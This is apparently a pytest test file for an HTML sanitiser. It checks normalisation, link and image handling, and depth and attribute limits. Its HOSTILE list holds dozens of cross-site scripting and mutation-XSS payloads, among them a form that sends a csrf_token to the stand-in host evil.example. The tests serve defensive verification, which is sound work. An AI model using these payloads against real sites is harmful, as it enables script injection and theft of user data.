import re

import pytest

from annotator.domain.errors import Refused
from annotator.markup.cleaning.sanitising import clean
from annotator.markup.pages.depth import flatten
from annotator.markup.pages.urls import image_address, link_address

BASE = "https://example.org/news/story"
LINK = '<a href="{}" rel="noopener noreferrer">{}</a>'


@pytest.mark.parametrize(
    ("given", "stored"),
    [
        ("<div>one<p>two</p>three</div>", "<p>one</p><p>two</p><p>three</p>"),
        ("one<br><br>two<br>three", "<p>one</p><p>two<br>\nthree</p>"),
        ("<p> a\u00a0\n b <em> c </em> d </p>", "<p>a b <em>c </em>d</p>"),
        ("<p>soft\u00adhyphen zero\u200bwidth\ufeff</p>", "<p>softhyphen zerowidth</p>"),
        ("<p>می\u200cخواهم \u200e</p>", "<p>می\u200cخواهم \u200e</p>"),
        ("<p>cafe\u0301</p>", "<p>café</p>"),
        ("<p>cafe<b>\u0301!</b></p>", "<p>café<b>!</b></p>"),
        ("<pre>\n\n  one\n\n    two  \n</pre>", "<pre>  one\n\n    two</pre>"),
        ("<li>one", "<ul><li>one</li></ul>"),
        ("<ul><li>a<li>b<ul><li>c</ul></ul>", "<ul><li>a</li><li><p>b</p><ul><li>c</li></ul></li></ul>"),
        ("<h1>a</h1><h1>b</h1><h3>c<br><br>d</h3>", "<h1>a</h1><h2>b</h2><h3>c<br>\nd</h3>"),
        ("<p></p><p> &nbsp;<br></p><ul><li></ul><figure></figure>", ""),
        ("<p>He said <q>yes, <q>no</q></q>.</p>", "<p>He said “yes, ‘no’”.</p>"),
        ("<span>w</span><span>o</span>rd", "<p>word</p>"),
        ("<b><p>one<p>two</b>", "<p><b>one</b></p><p><b>two</b></p>"),
        ("<dl><dt>term<dd>meaning</dl>", "<p>term</p><p>meaning</p>"),
        (
            '<div dir="rtl" lang="he">ש<p lang="en">x',
            '<p dir="rtl" lang="he">ש</p><p dir="rtl" lang="en">x</p>',
        ),
        ('<p class="standfirst lead" style="x" id="y">s</p>', '<p class="standfirst">s</p>'),
        ("<table><tr><td>only<p>cell</table>", "<p>only</p><p>cell</p>"),
        (
            "<table><tr><td>a<td><tr><th>b<td>c</table>",
            "<table><tbody><tr><td>a</td><td></td></tr><tr><th>b</th><td>c</td></tr></tbody></table>",
        ),
        (
            "<table><caption>t</caption><tr><td><td></table>",
            "<table><caption>t</caption><tbody><tr><td></td><td></td></tr></tbody></table>",
        ),
        ("<blockquote>one</blockquote>", "<blockquote>one</blockquote>"),
        ("<blockquote>one<p>two</blockquote>", "<blockquote><p>one</p><p>two</p></blockquote>"),
        ('<table lang="fr"><td colspan="2">a</table>', '<p lang="fr">a</p>'),
        ("<td>a</td>", "<p>a</p>"),
        ("<figcaption>a</figcaption>", "<p>a</p>"),
    ],
)
def test_html_is_stored_in_one_form(given, stored):
    assert clean(given) == stored


def test_addresses_become_absolute():
    given = '<p><a href="/x">a</a> <a href="?y">b</a> <a href="//cdn.example/z">c</a> <a href="mailto:d@e.org">d</a>'
    assert clean(given, BASE) == "<p>{} {} {} {}</p>".format(
        LINK.format("https://example.org/x", "a"),
        LINK.format("https://example.org/news/story?y", "b"),
        LINK.format("https://cdn.example/z", "c"),
        LINK.format("mailto:d@e.org", "d"),
    )


@pytest.mark.parametrize("address", ["/x", "#note", "", " ", "http://", "https://[::1", "ftp://e.org/x", "tel:1"])
def test_a_link_without_a_usable_address_becomes_its_words(address):
    assert clean(f'<p><a href="{address}">word</a></p>') == "<p>word</p>"


def test_a_link_into_the_page_itself_becomes_its_words():
    assert clean('<p><a href="#note">1</a></p>', BASE) == "<p>1</p>"


def test_the_inner_of_two_nested_links_is_kept_around_its_words():
    given = '<a href="/x"><table><tr><td>a<a href="/y">b</a><td>c</table></a>'
    outer, inner = LINK.format("https://example.org/x", "{}"), LINK.format("https://example.org/y", "b")
    row = f"<td>{outer.format('a')}{inner}</td><td>{outer.format('c')}</td>"
    assert clean(given, BASE) == f"<table><tbody><tr>{row}</tr></tbody></table>"


@pytest.mark.parametrize(
    "address", ["javascript:x", "java\tscript:x", "\x01javascript:x", "data:text/html,x", "vbscript:x"]
)
def test_addresses_are_checked_again_after_the_allow_list(address):
    assert link_address(address, BASE) is None
    assert image_address({"src": address}, BASE) is None


def test_the_picture_is_kept_and_not_its_placeholder():
    given = '<img src="data:image/gif;base64,R0" data-src="/p.jpg" alt=" a  cat " width=60 height="auto" onerror=x>'
    picture = '<figure><img alt="a cat" src="https://example.org/p.jpg" width="60"></figure>'
    assert clean(given, BASE) == picture


@pytest.mark.parametrize(
    "address", ["port_files/mill.jpg", "./a b_files/mill.jpg", "data:image/gif;base64,R0", "file:///C:/mill.jpg", ""]
)
def test_a_picture_that_cannot_be_loaded_is_kept_for_its_alternative_text(address):
    stored = clean(f'<p>One.</p><figure><img src="{address}" alt=" A  mill "></figure><p>Two.</p>')
    assert stored == '<p>One.</p><figure><img alt="A mill"></figure><p>Two.</p>'
    assert clean(stored) == clean(stored, BASE) == stored
    assert clean(f'<p>One.</p><img src="{address}" alt=" "><img src="{address}">') == "<p>One.</p>"


def test_a_picture_in_a_paragraph_stays_there_and_one_alone_is_a_figure():
    image = '<img alt="" src="https://e.org/i.png">'
    assert clean(f"<p>one {image} two</p>") == f"<p>one {image}two</p>"
    assert clean(f"<p>one<br>{image}<br>two</p>") == f"<p>one</p><figure>{image}</figure><p>two</p>"


HOSTILE = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example></sCrIpT >",
    "<style>p{background:url(//evil.example)}</style>",
    "<p style=\"background:url('//evil.example/x')\">a",
    '<iframe src="//evil.example"></iframe>',
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<img src=x onerror=alert(1)>",
    '<img src="https://e.org/x" srcset="//evil.example/x" onload=alert(1)>',
    '<a href="javascript:alert(1)">a</a>',
    '<a href="java\tscript:alert(1)">a</a>',
    '<a href="java&#10;script:alert(1)">a</a>',
    '<a href="&#1;javascript&colon;alert(1)">a</a>',
    '<a href="&#106;avascript:alert(1)">a</a>',
    '<a href=" JaVaScRiPt:alert(1)">a</a>',
    '<a href="vbscript:x">a</a>',
    '<a href="data:text/html,<script>alert(1)</script>">a</a>',
    '<a href="view-source:javascript:1">a</a>',
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text>a</text></a></svg>',
    '<svg><style><img src=x onerror="alert(1)"></style></svg>',
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<math><mi><mglyph></mglyph><style><img src=x onerror=alert(1)></style></mi></math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    "<template><script>alert(1)</script></template>",
    '<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>',
    "<xmp><script>alert(1)</script></xmp><plaintext><script>x",
    '<base href="//evil.example/">',
    '<meta http-equiv="refresh" content="0;url=//evil.example">',
    '<link rel="stylesheet" href="//evil.example/x.css">',
    '<form action="//evil.example"><input name="csrf_token"><button formaction="//evil.example">x</button></form>',
    '<object data="//evil.example"></object><embed src="//evil.example">',
    '<video src="//evil.example" poster="//evil.example"></video>',
    '<p data-unit="u1" data-block="b1" data-sentence id="s1" class="u" hx-get="//evil.example" name="x">a</p>',
    '<p onclick="x" onmouseover=\'y\' tabindex="1" contenteditable accesskey="x">a</p>',
    '<span class="u" data-unit="u1" lang="en" dir="auto">a</span>',
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<<script>alert(1);//<</script>",
    '<p lang="en"onclick=alert(1)">a</p>',
]
TAGS = re.compile(r"<[^<>]*>")
HARMLESS = re.compile(
    r"</?(?:p|a|b|span|table|tbody|tr|td|figure|img)"
    r'(?: (?:href|src|alt|rel|lang|dir)="(?!\s*(?:javascript|data|vbscript))[^"<>]*")*>'
)


@pytest.mark.parametrize("html", HOSTILE)
@pytest.mark.parametrize("around", ["{}", "<p>before {} after</p>", "<table><tr><td>{}</td><td>x</td></tr></table>"])
def test_stored_html_cannot_run_load_or_imitate_anything(html, around):
    stored = clean(around.format(html), BASE)
    assert all(HARMLESS.fullmatch(tag) for tag in TAGS.findall(stored)), stored
    assert "evil.example" not in "".join(TAGS.findall(stored))
    assert clean(stored) == stored


@pytest.mark.parametrize(
    "tag", ["div", "b", "blockquote", "table><tr><td", "font", "x-y", "ul><li", "form", 'i a="</i>"']
)
def test_what_is_nested_too_deep_is_flattened_and_keeps_its_text(tag):
    stored = clean(f"<{tag}>" * 10_000 + "<p>First words.</p><p>Last words.</p>")
    assert [words for words in re.split(r"(?:<[^>]+>)+", stored) if words] == ["First words.", "Last words."]
    assert clean(stored) == stored


def test_texts_stay_separate_where_a_tag_between_them_is_too_deep():
    assert clean("<div>" * 600 + "one<div>two</div>three") == "<p>one</p><p>two</p><p>three</p>"
    assert clean("<b>" * 600 + "one<i>two</i>three").count("<p>") == 1


@pytest.mark.parametrize("tag", ["svg", "template", "noscript", "math", "select"])
def test_an_element_that_hides_its_content_is_refused_if_too_deep(tag):
    with pytest.raises(Refused) as caught:
        clean(f"<{tag}>" * 10_000 + "hidden")
    assert (caught.value.code, caught.value.values) == ("too_deep", {"limit": 500})


def test_a_deep_drawing_shows_none_of_its_letters():
    assert clean("<p>before</p><svg>" + "<g>" * 600 + "<text>hidden</text>" + "</g>" * 600 + "</svg><p>after</p>") == (
        "<p>before</p><p>after</p>"
    )


@pytest.mark.parametrize("sign", ["{}=1", "{}", "{}='x>y'", '{} = ">"', "{}=1/"])
@pytest.mark.parametrize(
    ("page", "shown"),
    [("<p {}>Words.</p>", "<p>Words.</p>"), ("<p>Words.</p {}>", "<p>Words.</p>"), ("<b>Words.</b {}>", "<p><b>Words.</b></p>"),
     ("<script>x</script {}>Words.", "<p>Words.</p>"), ("<title {}>x</title>Words.", "<p>Words.</p>"),
     ("<p>Words.</p><input {}>", "<p>Words.</p>"), ("<p>Words.</p><i {}", "<p>Words.</p>")],
)  # fmt: skip
def test_no_parser_sees_more_attributes_than_a_tag_may_have(page, shown, sign):
    """Parsers compare each attribute with all before it."""
    many = page.format(" ".join(sign.format(f"a{number}") for number in range(5000)))
    assert len(re.findall(r"\ba\d+", flatten(many))) <= 200
    assert clean(many) == shown


def test_as_many_attributes_as_a_tag_may_have_stay():
    page = "<a " + " ".join(f"a{number}=1" for number in range(199)) + " href='https://a.example/'>Words.</a>"
    assert flatten(page) == page


@pytest.mark.parametrize("html", ["<script>", "<!--", "<a", '<a ="', "<a b='", "<textarea>", "</div"])
def test_a_page_of_tags_that_never_end_is_read_in_one_pass(html):
    assert (html * 200_000).startswith(flatten(html * 200_000))


@pytest.mark.parametrize("html", ["<p>x" * 2000, "<ul>" + "<li>x" * 2000, "<p>x<br>" * 2000, "<!-- <b> -->" * 2000])
def test_many_unclosed_elements_are_not_deep(html):
    clean(html)


def test_tags_in_a_script_are_not_counted():
    assert clean("<script>" + "'<div>'" * 2000 + "</script>x") == "<p>x</p>"


def test_lone_surrogates_and_control_characters_do_not_survive():
    assert clean("<p>a\ud800b\x01c\x00d</p>") == "<p>a\ufffdbcd</p>"
